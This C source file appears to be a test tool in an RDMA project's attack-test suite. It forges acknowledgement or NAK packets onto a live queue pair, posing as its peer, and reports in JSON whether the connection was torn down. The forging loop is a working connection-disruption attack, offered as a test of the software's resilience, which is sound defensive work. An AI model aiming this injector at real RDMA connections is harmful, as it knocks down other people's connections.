/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Forged answers to a connection at work, one after the other until it has ended or the time is
 * over: somebody on the wire who hears it, and speaks as its peer (packets.h, verbs_victims.h).
 *
 *   attack-forger DEVICE-NUMBER PID nak|ack own|other SECONDS
 *
 * @own: to the queue pair of that process; @other: to the one at its other end. Prints one line of
 * JSON. Exit 0: the queue pair that was attacked is connected no more; 1: it is; 2: not tried.
 */
#include "common/clock.h"
#include "common/util.h"
#include "tests/attack/packets.h"
#include "tests/attack/verbs_victims.h"
#include <arpa/inet.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define VICTIMS_MAX 64u
#define AHEAD       12u /* while the table is read and packets travel, the victim goes on */
#define ADDRESS     "10.77.0.1"

/* The table has the thread that made a queue pair. */
static bool made_by(const struct victim *v, uint32_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%u/task/%u", pid, v->thread);
	return access(path, F_OK) == 0;
}

/* Of the process, or if @pid is 0 by its number. */
static const struct victim *find(const struct victim *v, int n, uint32_t pid, uint32_t qpn)
{
	for (int i = 0; i < n; i++)
		if (pid ? made_by(&v[i], pid) : v[i].qpn == qpn)
			return &v[i];
	return NULL;
}

/* Answers to what it has under way, and to what follows. */
static int forge(int wire, const struct victim *at, uint8_t syndrome, uint64_t *sent)
{
	struct forged f = {.kind = FORGED_ACKNOWLEDGE, .qpn = at->qpn, .syndrome = syndrome};
	int r = 0;

	inet_pton(AF_INET, ADDRESS, &f.src);
	f.dst = f.src;
	for (uint32_t i = 0; i < AHEAD && r == 0; i++) {
		f.psn = at->sends_next - 1 + i;
		r = packets_send(wire, &f);
		*sent += r == 0;
	}
	return r;
}

struct attack {
	int wire, table;
	uint32_t dev, pid, qpn; /* qpn 0: not known yet */
	bool own, ended;
	uint8_t syndrome;
	uint64_t sent;
};

/* Looks, and forges answers to what it sees. 0 or -errno. */
static int once(struct attack *a)
{
	struct victim all[VICTIMS_MAX];
	int n = victims_look(a->table, a->dev, all, VICTIMS_MAX);
	const struct victim *v;

	if (n < 0)
		return n;
	if (!a->qpn) {
		v = find(all, n, a->pid, 0);
		a->qpn = !v ? 0 : a->own ? v->qpn : v->peer;
	}
	v = a->qpn ? find(all, n, 0, a->qpn) : NULL;
	a->ended = a->qpn && !v;
	return v ? forge(a->wire, v, a->syndrome, &a->sent) : 0;
}

int main(int argc, char **argv)
{
	struct attack a = {.wire = packets_socket("peer0"), .table = victims_open()};
	uint64_t until_ns;
	int r = 0;

	if (argc != 6 || a.wire < 0 || a.table < 0) {
		fprintf(stderr,
		        "usage: attack-forger DEVICE-NUMBER PID nak|ack own|other SECONDS\n");
		return 2;
	}
	a.dev = (uint32_t)atoi(argv[1]);
	a.pid = (uint32_t)atoi(argv[2]);
	a.syndrome = strcmp(argv[3], "nak") ? SYNDROME_ACK : SYNDROME_NAK_ACCESS;
	a.own = !strcmp(argv[4], "own");
	until_ns = clock_monotonic_ns() + (uint64_t)atoi(argv[5]) * NS_PER_S;
	while (!a.ended && r == 0 && clock_monotonic_ns() < until_ns)
		r = once(&a);
	printf("{\"answers\": %llu, \"queue_pair\": %u, \"ended\": %s, \"error\": \"%s\"}\n",
	       (unsigned long long)a.sent, a.qpn, a.ended ? "true" : "false",
	       r ? strerror(-r) : "");
	return r || !a.qpn ? 2 : a.ended ? 0 : 1;
}
